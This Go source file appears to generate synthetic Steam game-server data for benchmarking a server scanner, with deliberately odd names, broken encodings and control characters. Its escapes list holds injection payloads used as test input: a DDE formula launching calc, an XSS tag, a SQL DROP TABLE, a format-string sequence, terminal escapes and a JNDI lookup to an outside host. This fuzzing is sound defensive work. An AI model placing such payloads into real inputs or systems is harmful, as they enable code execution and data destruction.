package fleet

import (
	"bytes"
	"embed"
	"errors"
	"strconv"
	"strings"

	"github.com/a2sscan/a2sscan/bench/fleet/internal/random"
)

// nameLimit is the length at which the Steam SDK cuts a server's name, even in the
// middle of a character (EC-40).
const nameLimit = 63

var (
	brokenNames = []string{
		"\xd1\xe5\xf0\xe2\xe5\xf0 \xd0\xee\xf1\xf1\xe8\xff",             // CP1251
		"\xd6\xd0\xb9\xfa\xb7\xfe\xce\xf1\xc6\xf7 CS1.6",                // GBK
		"half a character \xe4\xb8", "\xff\xfe raw", "\xc0\xafoverlong", // invalid UTF-8
		"\xed\xa0\x80surrogate\xf5\x80\x80\x80", "tail \xf0\x9f\x94", "\x80\x80\x80",
	}
	controlNames = []string{
		"\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01   skial.com | 2FORT", // EC-38
		"^1Red ^7and\twhite\r\n", "\x1b[31mred\x1b[0m alert", "bell\x07 back\x08space", "del\x7f",
		"quote\" back\\slash </script>", "\u202eevil\u202c bidi", "c1 \u009b31m",
	}
)

var (
	sourceTV     = []byte("SourceTV")
	leftover     = []byte("\x00\x00extra")
	modURLs      = constants("www.counter-strike.net", "http://example.org/mod", "")
	modDownloads = constants("", "http://example.org/get")
)

var (
	wideNames = []string{
		"Сервер для своих | Москва", "Только Dust2 · без лагов", "中国社区服 上海 32人", "【日本】サバイバル鯖", "한국 공식 서버 #1",
		"خادم عربي للمبتدئين", "🔥 2× LOOT 🔥 MONDAY WIPE 💀", "Ελληνικός server — καλώς ήρθατε", "Ünïcødé Tëst",
		"שרת ישראלי", "Zażółć gęślą jaźń", "👩‍👩‍👧‍👦 family friendly ❤️",
	}
	clanTags = []string{
		"[EU]", "[RU]", "skial.com", "=F|A=", "BRASIL", "uwu", "Mutiny", "24/7", "[GER]", "Old School", "NoPing",
		"Zombie Haven", "#1", "Public", "Valve",
	}
	kindsOfPlay = []string{
		"Dust2 only", "Fun Server", "No Lag", "DarkRP", "Instant Respawn", "128 tick", "2x Vanilla", "Deathmatch",
		"Trade", "Surf Beginner", "Community", "Noobs welcome", "PvP", "Roleplay",
	}
	playerNames = []string{
		"[D]---->T.N.W<----", "Killer !!!", "xX_Sniper_Xx", "unnamed", "Player", "(1)Player", "Вася", "Kemal", "小明",
		"ゆき", "Gordon", "noob.exe", "João", "🔥ace🔥", "a", "| clan | leader", "Shipmate", "LandLubber", "Алексей",
		"Łukasz", "dr. \"quote\"", "back\\slash", "^3yellow", "Привет", "bob", "Max Players",
	}
)

// appendName appends a server's name. Usually the name is plain; sometimes it is odd, as
// names of real servers are.
func appendName(dst []byte, r *random.Stream) []byte {
	start := len(dst)
	switch at := r.Below(100); {
	case at < 62:
		return appendPlainName(dst, r)
	case at < 78:
		return append(dst, random.Pick(r, wideNames)...)
	case at < 84:
		for len(dst)-start < nameLimit {
			dst = append(dst, random.Pick(r, wideNames)...)
			dst = append(dst, ' ')
		}
		return dst[:start+nameLimit]
	case at < 89:
		return append(dst, random.Pick(r, brokenNames)...)
	case at < 94:
		return append(dst, random.Pick(r, controlNames)...)
	case at < 96:
		return dst // empty
	case at < 98:
		n := len(dst) + 200 // EC-53
		if r.OneIn(8) {
			n += 1800
		}
		for len(dst) < n {
			dst = append(appendPlainName(dst, r), ' ')
		}
		return dst
	}
	return append(append(dst, "   "...), random.Pick(r, clanTags)...) // EC-39
}

func appendPlainName(dst []byte, r *random.Stream) []byte {
	dst = append(append(dst, random.Pick(r, clanTags)...), ' ')
	dst = append(append(dst, random.Pick(r, kindsOfPlay)...), " #"...)
	return strconv.AppendInt(dst, int64(r.Below(10000)), 10)
}

func appendPlayerName(dst []byte, r *random.Stream) []byte {
	switch at := r.Below(100); {
	case at < 3:
		return dst // a player who is still connecting (EC-80)
	case at < 5:
		return append(dst, random.Pick(r, controlNames)...)
	case at < 6:
		return append(dst, bytes.Repeat([]byte("W"), 31)...)
	case at == 6 && r.OneIn(8):
		return append(dst, "\xcf\xf0\xe8\xe2\xe5\xf2"...) // CP1251
	case at < 60:
		return append(dst, random.Pick(r, playerNames)...)
	}
	dst = append(append(dst, random.Pick(r, playerNames)...), '.')
	return strconv.AppendInt(dst, int64(r.Below(1000)), 10)
}

// constants converts strings to byte slices, which must not be changed, because the
// contents of all servers share them.
func constants(ss ...string) (texts [][]byte) {
	for _, s := range ss {
		texts = append(texts, []byte(s))
	}
	return texts
}

type cvar struct {
	name   []byte
	values [][]byte
}

// cvars are the rules in cvars.txt. Any server may have them, whatever its engine.
var cvars = func() (vars []cvar) {
	rows("cvars.txt", func(cells []string) {
		vars = append(vars, cvar{[]byte(cells[0]), constants(cells[1:]...)})
	})
	return vars
}()

type simpleGame struct {
	app      uint32 // Steam application ID; above 65535 the short ID is 0 (EC-25)
	protocol uint8
	folder   []byte
	name     []byte
	version  []byte
	tags     []byte // keywords that its servers send
	maps     [][]byte
}

// simpleGames has the games in simple.txt, by the kind of server that runs them.
var simpleGames = func() map[Kind][]*simpleGame {
	all := map[Kind][]*simpleGame{}
	rows("simple.txt", func(cells []string) {
		kind, err := ParseKinds(cells[0], nil)
		app, err1 := strconv.ParseUint(cells[1], 10, 32)
		protocol, err2 := strconv.ParseUint(cells[2], 10, 8)
		if err := errors.Join(err, err1, err2); err != nil {
			panic(err)
		}
		t := constants(cells[3], cells[4], strings.ReplaceAll(cells[5], `\r`, "\r"), cells[6])
		g := &simpleGame{uint32(app), uint8(protocol), t[0], t[1], t[2], t[3], constants(strings.Split(cells[7], "|")...)}
		all[kind[0]] = append(all[kind[0]], g)
	})
	// A scan repeats RULES less often for Counter-Strike 2 than for other games (EC-99),
	// so servers of the kind InfoOnly must also have other games.
	all[InfoOnly] = append(all[InfoOnly], all[Source]...)
	return all
}()

// pluginVersions are the values of rules that are not in cvars.
var pluginVersions = constants("1.0", "1.2.3", "2.0.1", "0.9b", "1.12.0.7163", "3.1")

// oddValues are values that few servers have: bytes that are not UTF-8, quotes,
// other alphabets, or nothing at all.
var oddValues = constants(
	"Добро пожаловать", "\"quoted\"", "\xcf\xf0\xe0\xe2\xe8\xeb\xe0", "a\ttab", "", "-1", "half \xe4\xb8",
)

// oneInOdd is the rarity of odd values: one server in 16 has some among its rules. In the
// real world, about one server in 64 has a value that is not UTF-8.
const oneInOdd = 16

// escapes are put around the texts of servers of kind Escapes: colours, a title, a cleared
// screen, bidirectional overrides, C1 controls, a formula, markup.
var escapes = []string{
	"\x1b[2J\x1b[1;1H", "\x1b]0;owned\x07", "\x1b[31;1m", "\x1b]8;;http://example.org\x1b\\", "\x9b31m",
	"\u202e", "\u2066\u2069", "\u009b2J", "=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "'; DROP TABLE servers; --",
	"\r\n{\"schema\":1}\r\n", "\x08\x08\x08", "\ufeff\u200b", "%s%n%x", "${jndi:ldap://example.org}", "\"},\"status\":\"ok",
}

//go:embed cvars.txt simple.txt
var files embed.FS

// rows splits each line of a file at its tabs, and passes the columns to yield. It skips
// empty lines and comments.
func rows(file string, yield func(cells []string)) {
	b, err := files.ReadFile(file)
	if err != nil {
		panic(err) // an embedded file can always be read
	}
	for line := range strings.Lines(string(b)) {
		if line = strings.TrimSuffix(line, "\n"); line != "" && line[0] != '#' {
			yield(strings.Split(line, "\t"))
		}
	}
}
